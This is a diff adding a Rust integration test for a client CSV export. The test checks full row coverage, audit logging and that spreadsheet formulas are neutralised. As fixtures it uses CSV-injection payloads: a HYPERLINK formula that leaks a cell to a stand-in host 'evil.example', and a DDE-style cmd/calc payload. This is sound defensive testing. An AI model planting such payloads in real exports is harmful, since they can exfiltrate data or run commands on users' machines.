@@ -1,0 +1,135 @@
+//! The client export through the real HTTP surface: every row in scope however many (more
+//! than any page of the list), and no cell a spreadsheet would run as a formula, while numbers
+//! stay numbers.
+
+mod common;
+
+use std::collections::BTreeSet;
+
+use common::{TestApp, DEMO_PASSWORD};
+use reqwest::StatusCode;
+use sqlx::PgPool;
+
+const COMPLIANCE: &str = "omkar.deshpande@sahyadricapital.example";
+/// More than the list's largest page (500), on top of the demo's clients.
+const EXTRA_CLIENTS: i32 = 650;
+const FORMULA_NAME: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")";
+
+/// The column of the export's header named `name`.
+fn column(header: &csv::StringRecord, name: &str) -> usize {
+    header
+        .iter()
+        .position(|h| h == name)
+        .unwrap_or_else(|| panic!("the export has a {name:?} column"))
+}
+
+#[sqlx::test(migrations = "../migrations")]
+async fn the_client_export_has_every_row_and_runs_no_formula(pool: PgPool) {
+    let app = TestApp::start(pool.clone(), true).await;
+    sqlx::query(
+        "INSERT INTO dim_client (name, ws_client_code, city, state, status, onboarding_date)
+         SELECT 'Bulk Client ' || i, 'BULK' || lpad(i::text, 5, '0'), 'Pune', 'Maharashtra',
+                CASE WHEN i % 10 = 0 THEN 'Closed' ELSE 'Active' END, date '2024-04-01' + i
+         FROM generate_series(1, $1) AS i",
+    )
+    .bind(EXTRA_CLIENTS)
+    .execute(&pool)
+    .await
+    .unwrap();
+    // A client whose name and city a spreadsheet would run, with a loss: negative figures.
+    let hostile: i32 = sqlx::query_scalar(
+        "INSERT INTO dim_client (name, ws_client_code, city, state, status)
+         VALUES ($1, 'HOSTILE01', '@SUM(1+1)*cmd|'' /C calc''!A0', '-2+3', 'Active') RETURNING client_id",
+    )
+    .bind(FORMULA_NAME)
+    .fetch_one(&pool)
+    .await
+    .unwrap();
+    sqlx::query(
+        "INSERT INTO agg_client (client_id, aum, portfolios, twrr_1y, xirr_si)
+         VALUES ($1, -1234.50, 1, -0.0525, -0.125)",
+    )
+    .bind(hostile)
+    .execute(&pool)
+    .await
+    .unwrap();
+    let every_code: BTreeSet<String> =
+        sqlx::query_scalar::<_, Option<String>>("SELECT ws_client_code FROM dim_client")
+            .fetch_all(&pool)
+            .await
+            .unwrap()
+            .into_iter()
+            .map(Option::unwrap_or_default)
+            .collect();
+    let every_client: i64 = sqlx::query_scalar("SELECT count(*) FROM dim_client")
+        .fetch_one(&pool)
+        .await
+        .unwrap();
+    assert!(every_client > 1_000, "more clients than any page holds");
+
+    let compliance = app.login(COMPLIANCE, DEMO_PASSWORD).await;
+    let response = compliance
+        .get(app.url("/api/v1/exports/clients.csv?include_closed=true"))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), StatusCode::OK);
+    assert!(response.headers()["content-type"]
+        .to_str()
+        .unwrap()
+        .starts_with("text/csv"));
+    let body = response.text().await.unwrap();
+    let mut reader = csv::Reader::from_reader(body.as_bytes());
+    let header = reader.headers().unwrap().clone();
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+
+    // Every client, each once.
+    assert_eq!(rows.len() as i64, every_client, "one row per client");
+    let code = column(&header, "Client code");
+    let exported: BTreeSet<String> = rows.iter().map(|r| r[code].to_owned()).collect();
+    assert_eq!(exported, every_code, "every client code");
+    // The list itself still pages (its page size is clamped).
+    let listed: serde_json::Value = compliance
+        .get(app.url("/api/v1/clients?include_closed=true&page_size=100000"))
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert_eq!(listed["total"].as_i64(), Some(every_client));
+    assert!(listed["items"].as_array().unwrap().len() <= 500);
+
+    // Text cells that start a formula are defused; the numbers of the same row stay numbers.
+    let row = rows
+        .iter()
+        .find(|r| &r[code] == "HOSTILE01")
+        .expect("the hostile client is exported");
+    assert_eq!(&row[column(&header, "Client")], format!("'{FORMULA_NAME}"));
+    assert_eq!(
+        &row[column(&header, "City")],
+        "'@SUM(1+1)*cmd|' /C calc'!A0"
+    );
+    assert_eq!(&row[column(&header, "State")], "'-2+3");
+    assert_eq!(&row[column(&header, "AUM (INR)")], "-1234.50");
+    assert_eq!(&row[column(&header, "TWRR 1Y")], "-5.2500");
+    assert_eq!(&row[column(&header, "XIRR SI")], "-12.5000");
+    for r in &rows {
+        for cell in r.iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '@', '\t', '\r']),
+                "no cell may start a formula: {cell:?}"
+            );
+        }
+    }
+
+    // The audit trail records the export with its real size.
+    let audited: Option<i64> = sqlx::query_scalar(
+        "SELECT (details::jsonb->>'rows')::bigint FROM audit_log WHERE action = 'export.csv' AND actor = $1",
+    )
+    .bind(COMPLIANCE)
+    .fetch_optional(&pool)
+    .await
+    .unwrap();
+    assert_eq!(audited, Some(every_client));
+}
